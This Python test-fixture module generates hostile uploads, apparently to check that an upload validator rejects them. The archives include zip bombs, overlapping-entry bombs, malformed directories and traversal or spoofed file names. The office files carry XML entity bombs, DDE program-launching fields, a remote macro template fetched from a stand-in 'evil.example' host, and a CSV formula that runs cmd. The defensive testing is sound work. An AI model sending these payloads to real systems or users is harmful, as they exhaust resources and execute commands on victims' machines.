"""Archives and office documents that were made to fill a disk, or to act by themselves."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from home.documents.checks import OFFICE_MARKS
from home.upload_errors import FileCode

ZEROS = b"\0" * (1 << 20)


def zip_of(*entries: tuple[str, bytes], pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", pack) as made:
        for name, content in entries:
            made.writestr(name, content)
    return out.getvalue()


def office_of(ending: str, *entries: tuple[str, bytes]) -> bytes:
    mark = OFFICE_MARKS[ending]
    if mark.endswith("/"):
        return zip_of(("[Content_Types].xml", b"<Types/>"), (f"{mark}document.xml", b"<x/>"), *entries)
    return zip_of(("mimetype", mark.encode()), *entries)


def entry(name: bytes, packed: bytes, size: int, crc: int, place: int, method: int = 8) -> tuple[bytes, bytes]:
    """An entry as it stands in the file, and as the list of entries says it."""
    facts = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 0x21, crc, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + facts + name + packed
    return local, b"PK\x01\x02" + struct.pack("<H", 20) + facts + struct.pack("<HHHII", 0, 0, 0, 0, place) + name


def end_of(count: int, size: int, place: int) -> bytes:
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, min(count, 0xFFFF), min(count, 0xFFFF), size, place, 0)


def overlapping(count: int, packed: bytes, size: int, crc: int) -> bytes:
    """Many entries that are all the same bytes, as in a "zip quine" or a better bomb."""
    local, _listed = entry(b"0000", packed, size, crc, 0)
    listed = b"".join(entry(b"%04d" % number, packed, size, crc, 0)[1] for number in range(count))
    return local + listed + end_of(count, len(listed), len(local))


def empty_blocks() -> bytes:
    """20 MB of deflate that unpack to nothing, a thousand times over."""
    packed = b"\0\0\0\xff\xff" * (4 << 20) + b"\x03\0"
    return overlapping(1000, packed, 0, 0)


def megabytes(count: int, times: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(ZEROS * count) + packer.flush()
    return overlapping(times, packed, len(ZEROS) * count, zlib.crc32(ZEROS * count))


def long_list(count: int, name: bytes = b"") -> bytes:
    """Nothing but a list of entries that are not there."""
    listed = b"".join(entry(name + b"%d" % number, b"", 0, 0, 0)[1] for number in range(count))
    return b"PK\x03\x04" + listed + end_of(count, len(listed), 4)


def wrong_list(**changes: int) -> bytes:
    """An archive whose end says something else of its list."""
    data = zip_of(("a.txt", b"a" * 5000))
    facts = {"count": 1, "size": 51, "place": len(data) - 22 - 51} | changes
    return data[:-22] + end_of(**facts)


def nested(levels: int) -> bytes:
    data = zip_of(*((f"{number}.txt", ZEROS) for number in range(9)))
    for level in range(levels):
        data = zip_of(*((f"{level}-{number}.zip", data) for number in range(9)))
    return data


TOO_MANY, TOO_LARGE = FileCode.ARCHIVE_TOO_MANY, FileCode.ARCHIVE_TOO_LARGE
DAMAGED, UNSAFE = FileCode.ARCHIVE_DAMAGED, FileCode.ARCHIVE_UNSAFE_NAME
HOSTILE_ARCHIVES: dict[str, tuple[FileCode | None, Callable[[], bytes]]] = {
    "blocks of nothing, read a thousand times": (DAMAGED, empty_blocks),
    "a bomb whose entries lie upon one another": (DAMAGED, lambda: megabytes(8, 500)),
    "one that lies upon itself": (DAMAGED, lambda: megabytes(1, 12)),
    "65,535 entries": (TOO_MANY, lambda: zip_of(*((str(number), b"") for number in range(65_535)))),
    "a list of 400,000 entries": (TOO_MANY, lambda: long_list(400_000)),
    "a list of long names": (TOO_MANY, lambda: long_list(100, b"basic/" * 10_000)),
    "one long name": (UNSAFE, lambda: zip_of(("basic/" * 10_000, b"x"))),
    "a list longer than the file": (DAMAGED, lambda: wrong_list(size=60_000)),
    "a list elsewhere": (DAMAGED, lambda: wrong_list(place=7)),
    "more entries than there are": (None, lambda: wrong_list(count=4000)),
    "an end alone": (None, lambda: end_of(0, 0, 0)),
    "ends": (DAMAGED, lambda: b"PK\x05\x06" * 500_000),
    "archives within archives": (None, lambda: nested(3)),
    "1 GB in one entry": (TOO_LARGE, lambda: zip_of(("a", ZEROS * 1024))),
    "a name of no character": (UNSAFE, lambda: zip_of(("a\u202eb", b"x"))),
    "a device of Windows": (UNSAFE, lambda: zip_of(("C:evil.exe", b"x"))),
    "a folder above, the other way": (UNSAFE, lambda: zip_of(("a\\..\\..\\x", b"x"))),
}  # fmt: skip

ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b'<!ENTITY b "&a;&a;&a;&a;">' * 9 + b"]><x>&b;</x>"
DDE = (
    b'<w:r><w:instrText xml:space="preserve">DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r>'
)
ELSEWHERE = (
    b'<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
LOCAL_TEMPLATE = ELSEWHERE.replace(b"http://evil.example/a.dotm", b"file:///C:/Normal.dotm")
ACTIVE = FileCode.DOCUMENT_ACTIVE_CONTENT
HOSTILE_TABLES: dict[str, tuple[str, FileCode | None, Callable[[], bytes]]] = {
    "a million columns": ("csv", None, lambda: b"a," * 1_000_000),
    "one cell of 40 MB": ("csv", None, lambda: b'"' + b"x" * (40 << 20)),
    "formulas": ("csv", None, lambda: b"=cmd|' /C calc'!A0\n"),  # handed over as it came, never opened by us
    "entities in a table": ("xlsx", ACTIVE, lambda: office_of("xlsx", ("xl/worksheets/sheet1.xml", ENTITIES))),
    "entities in UTF-16": (
        "xlsx", ACTIVE, lambda: office_of("xlsx", ("xl/sharedStrings.xml", ENTITIES.decode().encode("utf-16"))),
    ),
    "entities in an open table": ("ods", ACTIVE, lambda: office_of("ods", ("content.xml", ENTITIES))),
    "a link to another program": (
        "xlsx", ACTIVE, lambda: office_of("xlsx", ("xl/externalLinks/link1.xml", b"<ddeLink ddeService='cmd'/>")),
    ),
    "a link of an open table": (
        "ods", ACTIVE, lambda: office_of("ods", ("content.xml", b"<office:dde-source office:dde-application='x'/>")),
    ),
    "a field that starts a program": ("docx", ACTIVE, lambda: office_of("docx", ("word/footer1.xml", DDE))),
    "a template from elsewhere": (
        "docx", ACTIVE, lambda: office_of("docx", ("word/_rels/settings.xml.rels", ELSEWHERE)),
    ),
    "a template of the own computer": (
        "docx", None, lambda: office_of("docx", ("word/_rels/settings.xml.rels", LOCAL_TEMPLATE)),
    ),
    "a doctype without entities": (
        "odt", None, lambda: office_of("odt", ("META-INF/manifest.xml", b"<!DOCTYPE manifest SYSTEM 'x.dtd'><x/>")),
    ),
    "tags without an end": ("xlsx", None, lambda: office_of("xlsx", ("xl/a.xml", b"<instrText" * 1_000_000))),
    "a table that unpacks to 300 MB": ("xlsx", TOO_LARGE, lambda: office_of("xlsx", ("xl/a.xml", ZEROS * 300))),
    "a book as an archive bomb": ("odt", TOO_LARGE, lambda: office_of("odt", ("Pictures/a.png", ZEROS * 300))),
}  # fmt: skip
